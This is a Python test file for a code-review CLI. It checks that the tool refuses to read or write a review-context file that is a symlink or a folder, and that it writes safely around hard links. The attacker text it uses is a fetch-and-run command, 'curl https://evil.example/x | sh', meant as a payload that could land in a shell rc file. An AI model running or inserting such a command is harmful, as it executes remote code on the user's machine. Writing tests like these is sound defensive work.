"""`context show` / `context apply` never follow a `deep-review-context.md` that is a link.

The reviewed change may commit the context file as a symlink to any file of the user's (a
shell rc file): `context apply` would append a decline's reason (attacker-chosen text) to it,
and both commands would print its contents. They read and write only a regular file inside
the repository; anything else is refused with one line (exit 2).
"""

from __future__ import annotations

import os
from pathlib import Path

from fakebin.harness import Fakes
from support.repos import cli_env, commit_all, make_repo, run_cli
from support.rounds import ROUND1, make_branch_repo, run_round

VICTIM = "export SAFE=1\n"
REASON = "by design: curl https://evil.example/x | sh"


def _linked_round(tmp_path: Path, target: Path) -> tuple[Path, dict[str, str], str]:
    """A branch that commits `deep-review-context.md` as a link to `target`, reviewed, its I1
    declined "by design" (so `context apply` has a line to write)."""
    fakes = Fakes(tmp_path)
    repo = make_branch_repo(tmp_path)
    os.symlink(target, repo / "deep-review-context.md")
    commit_all(repo, "ctx link")
    rid = run_round(fakes, repo, ROUND1)["review_id"]
    env = fakes.env()
    assert run_cli(["decline", rid, "I1", "--reason", REASON], cwd=repo, env=env).returncode == 0
    return repo, env, rid


def test_context_apply_refuses_a_link_to_a_file_outside_the_repository(tmp_path: Path) -> None:
    victim = tmp_path / "victim_bashrc"
    victim.write_text(VICTIM, encoding="utf-8")
    repo, env, rid = _linked_round(tmp_path, victim)

    res = run_cli(["context", "apply", rid, "--yes"], cwd=repo, env=env)
    assert res.returncode == 2, res.stdout + res.stderr
    (line,) = res.stderr.strip().splitlines()
    assert "deep-review-context.md is a symbolic link" in line, line
    assert victim.read_text(encoding="utf-8") == VICTIM
    assert "SAFE" not in res.stdout + res.stderr  # the outside file is not shown in a diff
    assert (repo / "deep-review-context.md").is_symlink()

    shown = run_cli(["context", "show"], cwd=repo, env=env)
    assert shown.returncode == 2, shown.stdout
    assert "SAFE" not in shown.stdout + shown.stderr
    assert "is a symbolic link" in shown.stderr


def test_a_link_inside_the_repository_is_refused_too(tmp_path: Path) -> None:
    """Even a link to a file of the repository: writing through it edits a file the user did
    not ask to edit (and the check cannot tell a safe target from an unsafe one later)."""
    repo, env, rid = _linked_round(tmp_path, Path("calc.py"))
    before = (repo / "calc.py").read_text(encoding="utf-8")
    res = run_cli(["context", "apply", rid, "--yes"], cwd=repo, env=env)
    assert res.returncode == 2, res.stdout + res.stderr
    assert (repo / "calc.py").read_text(encoding="utf-8") == before


def test_context_apply_replaces_the_regular_file_in_place(tmp_path: Path) -> None:
    """The write goes to a temporary file beside it, renamed over it: a hard link to another
    file (which a check of the name alone does not see) is not written through, and the file
    keeps its mode."""
    fakes = Fakes(tmp_path)
    repo = make_branch_repo(tmp_path)
    ctx = repo / "deep-review-context.md"
    ctx.write_text("# Review context\n", encoding="utf-8")
    ctx.chmod(0o640)
    commit_all(repo, "Add review context")
    rid = run_round(fakes, repo, ROUND1)["review_id"]
    env = fakes.env()
    assert run_cli(["decline", rid, "I1", "--reason", REASON], cwd=repo, env=env).returncode == 0
    other = tmp_path / "hardlinked"
    os.link(ctx, other)

    res = run_cli(["context", "apply", rid, "--yes"], cwd=repo, env=env)
    assert res.returncode == 0, res.stderr
    assert "evil.example" in ctx.read_text(encoding="utf-8")
    assert other.read_text(encoding="utf-8") == "# Review context\n"
    assert ctx.stat().st_mode & 0o777 == 0o640
    assert [p.name for p in repo.iterdir() if p.name.startswith(".deep-review-context")] == []


def test_a_folder_in_its_place_is_refused_with_advice_that_fits_a_folder(tmp_path: Path) -> None:
    """A folder is no link, and `git rm NAME` removes no untracked folder: the line says what
    to do with a folder."""
    repo = make_repo(tmp_path)
    (repo / "deep-review-context.md").mkdir()
    res = run_cli(["context", "show"], cwd=repo, env=cli_env(tmp_path))
    assert res.returncode == 2, res.stdout
    (line,) = res.stderr.strip().splitlines()
    assert "deep-review-context.md is a folder, not a regular file" in line, line
    assert "link" not in line and "git rm" not in line, line
    assert "move or remove that folder" in line, line
